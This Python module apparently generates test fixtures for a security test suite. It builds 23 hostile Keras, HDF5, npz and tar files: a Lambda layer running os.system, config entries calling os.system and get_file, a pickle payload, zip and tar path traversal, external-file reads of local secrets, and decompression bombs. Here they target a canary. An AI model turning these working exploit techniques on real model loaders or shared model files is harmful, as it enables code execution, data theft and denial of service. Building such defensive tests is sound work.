"""Hostile `.keras`, `.h5`, `.npz` and tar files: K01 to K23, one function each, named after what it does."""

import base64
import io
import json
import pickle
import stat
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

from .trap import Trap

BOMB = 512 << 20  # bytes that a bomb unpacks to: well above what is allowed, and below the 4 GiB of Keras' own guard
Parts = dict[str, bytes]


class Touch:
    """Pickles to a call that makes the canary."""

    def __init__(self, canary: Path):
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.canary,)


def parts_of(file: Path) -> Parts:
    """Return name -> content of a zip archive."""
    with zipfile.ZipFile(file) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def write_parts(file: Path, parts: Parts) -> Path:
    """Write a zip archive as Keras does, large members compressed."""
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts.items():
            large = len(content) > 1 << 20
            archive.writestr(name, content, zipfile.ZIP_DEFLATED if large else zipfile.ZIP_STORED, 1 if large else None)
    return file


class Maker:
    """Makes the files below `place`, from `good`: a .keras file of tiny_resnet with its weights.

    Args:
        place: an empty folder.
        trap: where the payloads point.
        good: as kcnn's own `keras.Model.save` writes it.
        program: folder of a SavedModel that makes the canary when it runs.
    """

    def __init__(self, place: Path, trap: Trap, good: Path, program: Path):
        self.place, self.trap, self.program = place, trap, program
        self.good = parts_of(good)
        self.small = self._small()

    def _small(self) -> Parts:
        """A model of one Lambda layer, whose entry in config.json the attacks replace."""
        import keras

        inputs = keras.Input((4,), name="x")
        path = f"touch {self.trap.canary}"
        lam = eval(f"lambda x: (__import__('os').system({path!r}), x)[1]")
        model = keras.Model(inputs, keras.layers.Lambda(lam, name="victim", output_shape=(4,))(inputs))
        self.trap.clear()
        model.save(self.place / "small.keras")
        model.save(self.place / "K05.h5")
        return parts_of(self.place / "small.keras")

    def _layer(self, name: str, change: Callable[[dict], None], before: dict | None = None) -> Path:
        """Write the small model with its Lambda layer changed, and a layer before it."""
        config = json.loads(self.small["config.json"])
        layers = config["config"]["layers"]
        change(layers[1])
        if before:
            layers.insert(1, before)
        return write_parts(self.place / f"{name}.keras", {**self.small, "config.json": json.dumps(config).encode()})

    def _call(self, module: str, function: str, *args: Any, **kwargs: Any) -> dict:
        """Return the entry of a "layer" that is a function, called with these arguments when the model is built."""
        return {
            "module": module,
            "class_name": "function",
            "config": function,
            "registered_name": "function",
            "name": function,
            "inbound_nodes": [{"args": list(args), "kwargs": kwargs}],
        }

    def _arrays(self, name: str, change: Callable[[Any], None]) -> Path:
        """Write the good model with its HDF5 file changed."""
        import h5py

        content = io.BytesIO(self.good["model.weights.h5"])
        with h5py.File(content, "r+") as file:
            change(file)
        return write_parts(self.place / f"{name}.keras", {**self.good, "model.weights.h5": content.getvalue()})

    def lambda_code(self) -> Path:
        """K01: a Lambda layer of marshalled code."""
        return write_parts(self.place / "K01.keras", self.small)

    def any_function(self) -> Path:
        """K02: config.json names os.system and its argument."""
        return self._layer("K02", lambda _: None, self._call("os", "system", f"touch {self.trap.canary}"))

    def own_download(self) -> Path:
        """K03: config.json calls keras.utils.get_file on a web address."""
        call = self._call("keras.utils", "get_file", "x.bin", self.trap.url + "x.bin", cache_dir=str(self.place))
        return self._layer("K03", lambda _: None, call)

    def unsafe_switch(self) -> Path:
        """K04: config.json switches safe mode off, then brings a Lambda."""
        return self._layer("K04", lambda _: None, self._call("keras.config", "enable_unsafe_deserialization"))

    def legacy_lambda(self) -> Path:
        """K05: a Lambda layer in an .h5 file."""
        return self.place / "K05.h5"

    def torch_pickle(self) -> Path:
        """K06: a TorchModuleWrapper whose module is a pickle."""
        module = base64.b64encode(pickle.dumps(Touch(self.trap.canary))).decode()

        def change(layer: dict) -> None:
            layer |= {"module": "keras.layers", "class_name": "TorchModuleWrapper"}
            layer["config"] = {"name": "victim", "module": module}

        return self._layer("K06", change)

    def vocabulary(self) -> Path:
        """K07: a StringLookup whose vocabulary is a file of this machine."""

        def change(layer: dict) -> None:
            layer |= {"module": "keras.layers", "class_name": "StringLookup", "registered_name": None}
            layer["config"] = {"name": "victim", "vocabulary": str(self.trap.secret)}
            layer.pop("build_config", None)

        return self._layer("K07", change)

    def tar_symlink(self) -> Path:
        """K08: a tar with a link to a folder outside, and a file through it."""
        link = tarfile.TarInfo("out")
        link.type, link.linkname = tarfile.SYMTYPE, str(self.trap.canary.parent)
        return self._tar("K08", [(link, b""), (tarfile.TarInfo(f"out/{self.trap.canary.name}"), b"!")])

    def write_anywhere(self) -> Path:
        """K09: config.json lets get_file copy a file to a place of its choice."""
        call = self._call(
            "keras.utils", "get_file", self.trap.canary.name, f"file://{self.trap.secret}",
            cache_dir=str(self.trap.canary.parent), cache_subdir=".",
        )  # fmt: skip
        return self._layer("K09", lambda _: None, call)

    def shape_bomb(self) -> Path:
        """K10: an array of 4 TiB that was never written."""

        def change(file: Any) -> None:
            group = file["layers/dense/vars"]
            del group["0"]
            group.create_dataset("0", (1 << 20, 1 << 20), "f4", chunks=(1024, 1024))

        return self._arrays("K10", change)

    def shape_bomb_h5(self) -> Path:
        """K10b: the same in the layout of keras.applications, 512 MiB."""
        import h5py

        file = self.place / "K10b.h5"
        with h5py.File(file, "w") as content:
            content.attrs["layer_names"] = [b"logits"]
            group = content.create_group("logits")
            group.attrs["weight_names"] = [b"kernel"]
            group.create_dataset("kernel", (BOMB // 4,), "f4", chunks=(1 << 20,), fillvalue=1.0)
        return file

    def external_numbers(self) -> Path:
        """K11: an array whose numbers are another file of this machine."""

        def change(file: Any) -> None:
            group = file["layers/dense/vars"]
            shape = group["0"].shape
            del group["0"]
            group.create_dataset("0", shape, "f4", external=[(str(self.trap.secret), 0, int(np.prod(shape)) * 4)])

        return self._arrays("K11", change)

    def external_link(self) -> Path:
        """K11b: a layer that is a link to another HDF5 file."""
        import h5py

        (self.place / "other.h5").write_bytes(self.good["model.weights.h5"])

        def change(file: Any) -> None:
            del file["layers/dense"]
            file["layers/dense"] = h5py.ExternalLink(str(self.place / "other.h5"), "layers/dense")

        return self._arrays("K11b", change)

    def saved_model_layer(self) -> Path:
        """K12: a TFSMLayer that loads a SavedModel of the attacker's."""

        def change(layer: dict) -> None:
            layer |= {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None}
            layer["config"] = {"name": "victim", "filepath": str(self.program), "call_endpoint": "serving_default"}
            layer.pop("build_config", None)

        return self._layer("K12", change)

    def zip_traversal(self) -> Path:
        """K13: members that leave the folder, among the assets that Keras extracts."""
        up = "../" * 12
        member = f"assets/{up}{str(self.trap.canary).lstrip('/')}"
        return write_parts(self.place / "K13.keras", {**self.good, "assets/a": b"a", member: b"!"})

    def tar_hard_link(self) -> Path:
        """K14: a tar with a hard link whose own name leaves the folder."""
        link = tarfile.TarInfo(f"../../{self.trap.canary.name}")
        link.type, link.linkname = tarfile.LNKTYPE, "inside"
        return self._tar("K14", [(tarfile.TarInfo("inside"), b"!"), (link, b"")])

    def metadata_bomb(self) -> Path:
        """K15: metadata.json unpacks to 512 MiB."""
        return write_parts(self.place / "K15.keras", {**self.good, "metadata.json": _blank_json(self.good)})

    def npz_bomb(self) -> Path:
        """K16: the weights as an .npz that unpacks to 512 MiB."""
        return self._npz("K16", np.zeros(BOMB, np.uint8))

    def extraction_bomb(self) -> Path:
        """K17: an asset that unpacks to 512 MiB on the disk, and weights that do in memory."""
        weights = self.good["model.weights.h5"] + bytes(BOMB)
        return write_parts(self.place / "K17.keras", {**self.good, "assets/a": b"a", "model.weights.h5": weights})

    def weights_file_bomb(self) -> Path:
        """K18: a .weights.h5 with an array of 512 MiB that was never written."""
        import h5py

        file = self.place / "K18.weights.h5"
        with h5py.File(file, "w") as content:
            group = content.create_group("layers/dense/vars")
            group.create_dataset("0", (BOMB // 4,), "f4", chunks=(1 << 20,), fillvalue=1.0)
        return file

    def derived_name(self) -> Path:
        """K19: get_file is to take the file's name from an address that ends in one that leaves the folder."""
        folder = self.place / "derived"
        folder.mkdir()
        name = f"..%2F{self.trap.canary.name}"
        (folder / name).write_bytes(b"!")
        call = self._call(
            "keras.utils", "get_file", origin=f"file://{folder}/{name.replace('%', '%25')}",
            cache_dir=str(self.trap.canary.parent), cache_subdir="cache",
        )  # fmt: skip
        return self._layer("K19", lambda _: None, call)

    def config_bomb(self) -> Path:
        """K20: config.json unpacks to 512 MiB, below the floor of Keras' own guard."""
        return write_parts(self.place / "K20.keras", {**self.good, "config.json": _blank_json(self.good)})

    def twice(self) -> Path:
        """K21: config.json twice, harmless and not."""
        file = write_parts(self.place / "K21.keras", self.good)
        with zipfile.ZipFile(file, "a") as archive:
            archive.writestr("config.json", self.small["config.json"])
        return file

    def symlink_member(self) -> Path:
        """K22: the weights are a link to a file of this machine."""
        file = write_parts(self.place / "K22.keras", {k: v for k, v in self.good.items() if not k.endswith("h5")})
        link = zipfile.ZipInfo("model.weights.h5")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        with zipfile.ZipFile(file, "a") as archive:
            archive.writestr(link, str(self.trap.secret))
        return file

    def pickled_arrays(self) -> Path:
        """K23: the weights as an .npz of pickled objects."""
        return self._npz("K23", np.array([Touch(self.trap.canary)], object))

    def _npz(self, name: str, array: np.ndarray) -> Path:
        content = io.BytesIO()
        np.savez_compressed(content, **{"layers/dense/vars": array, "__root__": array})
        parts = {k: v for k, v in self.good.items() if not k.endswith("h5")}
        return write_parts(self.place / f"{name}.keras", {**parts, "model.weights.npz": content.getvalue()})

    def _tar(self, name: str, members: list[tuple[tarfile.TarInfo, bytes]]) -> Path:
        file = self.place / f"{name}.tar"
        with tarfile.open(file, "w") as archive:
            for member, content in members:
                member.size = len(content)
                archive.addfile(member, io.BytesIO(content))
        return file

    def all(self) -> dict[str, Path]:
        """Return what each is and does, from its docstring -> file."""
        makers = [value for name, value in vars(Maker).items() if (value.__doc__ or "").startswith("K")]
        return {str(maker.__doc__): maker(self) for maker in makers}


def _blank_json(good: Parts) -> bytes:
    return good["metadata.json"].rstrip(b"}") + b" " * BOMB + b"}"
